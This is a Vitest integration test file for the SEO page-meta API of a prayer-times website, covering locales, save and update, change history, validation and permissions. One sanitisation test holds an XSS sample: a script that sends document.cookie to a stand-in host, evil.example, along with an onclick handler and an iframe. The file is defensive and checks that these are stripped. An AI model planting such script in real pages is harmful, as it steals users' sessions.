import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { siteContract } from '@/shared/api/contract';
import { startTestServer, type DemoAccount, type TestServer } from './harness';

let server: TestServer;
beforeAll(async () => {
  server = await startTestServer();
});
afterAll(() => server.close());

const get = async (url: string, account: DemoAccount = 'content') =>
  server.call({ method: 'GET', url: `/api/site/page-meta${url}`, token: await server.tokenOf(account) });
const post = async (call: 'save' | 'update', payload: object, account: DemoAccount = 'content') =>
  server.call({ method: 'POST', url: `/api/site/page-meta/${call}`, payload, token: await server.tokenOf(account) });

/** The id of a demo page by its name. */
async function pageIdOf(name: string): Promise<number> {
  const pages = siteContract.listPages.reply.parse((await get('/list-pages')).json());
  return pages.find((page) => page.pageName === name)!.pageId;
}

describe('the pages and their meta', () => {
  it('lists the pages of the site in menu order', async () => {
    const reply = await get('/list-pages');
    expect(reply.statusCode).toBe(200);
    const names = siteContract.listPages.reply.parse(reply.json()).map((page) => page.pageName);
    expect(names.slice(0, 5)).toEqual(['Home', 'Prayer Times', 'Quran', 'Hijri Calendar', 'Articles']);
    expect(names).toContain('Islamic Events');
  });

  it('views the meta of a page in a locale', async () => {
    const home = await pageIdOf('Home');
    const reply = await get(`/view?id=${home}&locale=en`);
    expect(reply.statusCode).toBe(200);
    expect(siteContract.pageMeta.parse(reply.json())).toMatchObject({
      pageId: home,
      pageName: 'Home',
      locale: 'en',
      title: 'Athan – Prayer Times, Quran and Islamic Calendar',
    });
    expect((await get(`/view?id=${home}&locale=ur`)).json().title).toMatch(/^اذان/);
  });

  it('answers 404 with its words where nothing is saved yet: the screen then adds a record', async () => {
    const reply = await get(`/view?id=${await pageIdOf('Quran')}&locale=fr`);
    expect(reply.statusCode).toBe(404);
    expect(reply.json()).toMatchObject({ success: false, message: 'No meta has been saved for this page in this language yet.', messageCode: 'seo.notFound' });
  });

  it('is refused without the SEO bits', async () => {
    expect((await get('/list-pages', 'moderator')).statusCode).toBe(403);
    expect((await get('/view?id=1&locale=en', 'moderator')).statusCode).toBe(403);
  });
});

describe('saving a page meta', () => {
  it('adds, updates, and records who changed which field from what to what', async () => {
    const duas = await pageIdOf('Duas');
    const key = { pageId: duas, locale: 'en' };
    const saved = await post('save', { ...key, title: 'Duas for Every Day', description: 'Morning and evening duas.', html: '' });
    expect(saved.statusCode).toBe(200);
    expect(saved.json()).toMatchObject({ success: true, message: 'Record added successfully!', data: { ...key, pageName: 'Duas', title: 'Duas for Every Day' } });

    const updated = await post('update', { ...key, title: 'Duas from the Quran and Sunnah', description: 'Morning and evening duas.', html: '<p>Duas</p>' });
    expect(updated.json()).toMatchObject({ message: 'Record updated successfully!', data: { title: 'Duas from the Quran and Sunnah', html: '<p>Duas</p>' } });
    expect((await get(`/view?id=${duas}&locale=en`)).json().title).toBe('Duas from the Quran and Sunnah');

    const history = (await get(`/history?id=${duas}&locale=en`)).json();
    expect(history.content.map((entry: { action: string }) => entry.action)).toEqual(['updated', 'created']);
    expect(history.content[0]).toMatchObject({
      userName: 'Yusuf Qureshi',
      changes: [
        { field: 'title', from: 'Duas for Every Day', to: 'Duas from the Quran and Sunnah' },
        { field: 'html', from: '', to: '<p>Duas</p>' },
      ],
    });
    expect(history.content[1].changes).toEqual([
      { field: 'title', from: null, to: 'Duas for Every Day' },
      { field: 'description', from: null, to: 'Morning and evening duas.' },
      { field: 'html', from: null, to: '' },
    ]);
    // The same page in another locale is another record, with its own history.
    expect((await get(`/history?id=${duas}&locale=ar`)).json()).toEqual({ content: [] });
  });

  it('refuses a save of a key that has a record (409) and an update of one that has none (404)', async () => {
    const home = await pageIdOf('Home');
    const again = await post('save', { pageId: home, locale: 'en', title: 'Home', description: 'Home' });
    expect(again.statusCode).toBe(409);
    expect(again.json().message).toBe('This page already has meta in this language; update it instead.');
    const missing = await post('update', { pageId: home, locale: 'es', title: 'Inicio', description: 'Inicio' });
    expect(missing.statusCode).toBe(404);
  });

  it("answers 400 with the spec's messages", async () => {
    const empty = await post('save', { title: ' ', description: '' });
    expect(empty.statusCode).toBe(400);
    expect(empty.json().fields).toEqual({
      pageId: 'Please select Page',
      locale: 'Please select Language',
      title: 'Enter meta title',
      description: 'Enter meta description',
    });
    const long = await post('save', { pageId: 1, locale: 'tr', title: 'x'.repeat(251), description: 'y'.repeat(501) });
    expect(long.json()).toMatchObject({
      fields: { title: 'Maximum length 250 characters', description: 'Maximum length 500 characters' },
      fieldCodes: { title: 'seo.titleTooLong', description: 'seo.descriptionTooLong' },
    });
    const unknownPage = await post('save', { pageId: 9999, locale: 'en', title: 'T', description: 'D' });
    expect(unknownPage.statusCode).toBe(400);
    expect(unknownPage.json()).toMatchObject({ message: 'Please select Page', fields: { pageId: 'Please select Page' } });
    expect((await get('/view?id=1&locale=de')).json().fields).toEqual({ locale: 'Please select Language' });
  });

  it('is refused without the add bit, for save and update alike', async () => {
    const body = { pageId: 1, locale: 'en', title: 'Viewer', description: 'Viewer' };
    expect((await post('save', { ...body, locale: 'ms' }, 'viewer')).statusCode).toBe(403);
    expect((await post('update', body, 'viewer')).statusCode).toBe(403);
    expect((await get('/view?id=1&locale=en', 'viewer')).statusCode).toBe(200);
  });
});

describe('the HTML body the public site shows', () => {
  const { SEO_MESSAGES, PAGE_META_LIMITS } = siteContract;
  const meta = async (page: string, locale: string, html: string) => ({ pageId: await pageIdOf(page), locale, title: `${page} (${locale})`, description: 'Meta.', html });

  it('is stored without scripts, styles or handlers, as an article body is', async () => {
    const hostile = '<h2>Zakat</h2><script>fetch("https://evil.example/?c=" + document.cookie)</script><p onclick="steal()">Pay it</p><style>body{display:none}</style><iframe src="https://evil.example"></iframe>';
    const saved = await post('save', await meta('Zakat Calculator', 'en', hostile));
    expect(saved.statusCode).toBe(200);
    expect(saved.json().data.html).toBe('<h2>Zakat</h2><p>Pay it</p>');
    expect((await get(`/view?id=${await pageIdOf('Zakat Calculator')}&locale=en`)).json().html).toBe('<h2>Zakat</h2><p>Pay it</p>');
    const updated = await post('update', await meta('Zakat Calculator', 'en', '<p>Due</p><script>alert(1)</script>'));
    expect(updated.json().data.html).toBe('<p>Due</p>');
  });

  it('keeps the stored demo HTML as it is when it is saved again', async () => {
    const home = await pageIdOf('Home');
    const stored = siteContract.pageMeta.parse((await get(`/view?id=${home}&locale=en`)).json());
    expect(stored.html).toContain('<h1>Welcome to Athan</h1>');
    const again = await post('update', { pageId: home, locale: 'en', title: stored.title, description: stored.description, html: stored.html });
    expect(again.statusCode).toBe(200);
    expect(again.json().data.html).toBe(stored.html);
  });

  it.each([
    ['tags nested far too deep', '<a>'.repeat(16_000), SEO_MESSAGES.htmlTooComplex],
    ['a picture from another site', '<p>Hi</p><img src="https://tracker.example/pixel.png">', SEO_MESSAGES.htmlOutsidePicture],
    ['HTML that sanitising makes longer than the limit', '&'.repeat(PAGE_META_LIMITS.html - 100), SEO_MESSAGES.htmlTooLong],
  ])('refuses %s with 400 and its words, storing nothing', async (_, html, message) => {
    const reply = await post('save', await meta('Contact Us', 'fr', html));
    expect(reply.statusCode).toBe(400);
    expect(reply.json()).toMatchObject({ message, fields: { html: message } });
    expect((await get(`/view?id=${await pageIdOf('Contact Us')}&locale=fr`)).statusCode).toBe(404);
  });
});
